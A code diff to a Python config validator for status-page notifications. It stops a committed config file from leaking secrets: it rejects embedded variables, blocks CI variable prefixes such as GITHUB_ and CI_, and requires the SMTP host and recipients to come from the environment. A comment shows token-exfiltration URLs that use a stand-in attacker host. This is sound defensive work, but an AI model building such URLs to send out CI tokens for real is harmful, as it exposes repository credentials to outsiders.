@@ -39,7 +39,7 @@ KEYS = {
 SMTP_KEYS = ("host", "port", "username", "password", "security")
 REMINDER_KEYS = ("maintenance_before",)
 # Values that are secrets: written in the file they would be public.
-SECRET_KEYS = ("url", "secret", "password")
+SECRET_KEYS = ("url", "secret", "password", "to", "host")
 MAX_CHANNELS = 50
 MAX_RECIPIENTS = 5_000
 MAX_REMINDER = timedelta(days=30)
@@ -47,6 +47,9 @@ ENV_RE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}")
 DURATION_RE = re.compile(r"([1-9][0-9]{0,5})([mhd])")
 ADDRESS_RE = re.compile(r"[^@\s<>,;\"]+@[^@\s<>,;\"]+\.[^@\s<>,;\"]+")
 LOOPBACK = ("127.0.0.1", "localhost", "::1")
+# Set by GitHub Actions and GitLab CI themselves (GITHUB_TOKEN, CI_JOB_TOKEN, ...), some
+# from a pull request's branch name: never a value this file may send anywhere.
+CI_PREFIXES = ("GITHUB_", "RUNNER_", "ACTIONS_", "CI_")
 ENV_HINT = ("set it in the environment (in GitHub Actions: a repository secret passed in "
             "the workflow's env:)")
 
@@ -238,6 +241,20 @@ class _Reader:
             return ""
         where = item.where_value(key)
         names = ENV_RE.findall(text)
+        if names and not ENV_RE.fullmatch(text.strip()):
+            # A variable inside other text lets the file choose where its value goes:
+            # https://attacker.example/${TOKEN}, ${TOKEN}@attacker.example.
+            self.check.error(where, f"'{key}' of {what} must be a single ${{NAME}} with "
+                             "nothing around it, or have no variable",
+                             f"write {key}: ${{NAME}} and put the whole value in NAME")
+            return ""
+        ci = [name for name in names if name.startswith(CI_PREFIXES)]
+        if ci:
+            self.check.error(where, f"'{key}' of {what} names {ci[0]}, a variable the CI "
+                             "runner sets, not a secret of this site",
+                             "name a repository secret of your own, passed in the "
+                             "workflow's env:")
+            return ""
         if secret and not names:
             self.check.error(where, f"'{key}' of {what} is a secret and must come from the "
                              "environment, not be written in this public file",
@@ -285,7 +302,9 @@ class _Reader:
             check.error(item.where_value("from"), f"'from' of {what} is not an email address",
                         "write 'from: Acme Status <status@acme.example>'")
             sender = ""
-        to = self.value(item, "to", what)
+        # From the environment like a URL: written here, a change to this file could mail
+        # anyone it likes through the site's SMTP login (and addresses are personal data).
+        to = self.secret(item, "to", what)
         recipients = tuple(dict.fromkeys(a.strip() for a in to.split(",") if a.strip()))
         bad = [n for n, a in enumerate(recipients, 1) if not ADDRESS_RE.fullmatch(a)]
         if to and (bad or not recipients):
@@ -323,8 +342,17 @@ class _Reader:
             return None
         check.unknown_keys(node, SMTP_KEYS, f"'smtp' of {what}")
         host = self.value(node, "host", f"'smtp' of {what}")
+        if "host" in node and not ENV_RE.fullmatch((source_text(node["host"]) or "").strip()):
+            # The recipients (from the environment) and any login go to the host: written
+            # here, a change to this file could send them to a server of its choosing.
+            check.error(node.where_value("host"), f"'host' of 'smtp' of {what} must come "
+                        "from the environment", "write host: ${SMTP_HOST} and set SMTP_HOST "
+                        "in the environment; the address list and any login go to that host")
+            host = ""
         port_text = self.value(node, "port", f"'smtp' of {what}") if "port" in node else ""
-        port = int(port_text) if port_text.isdigit() and 0 < int(port_text) < 65536 else 0
+        # isascii: str.isdigit() also takes '²', which int() refuses.
+        port = int(port_text) if port_text.isascii() and port_text.isdigit() \
+            and 0 < int(port_text) < 65536 else 0
         if port_text and not port:
             check.error(node.where_value("port"), f"'port' of 'smtp' of {what} must be a "
                         "port number", "587 for starttls, 465 for tls")
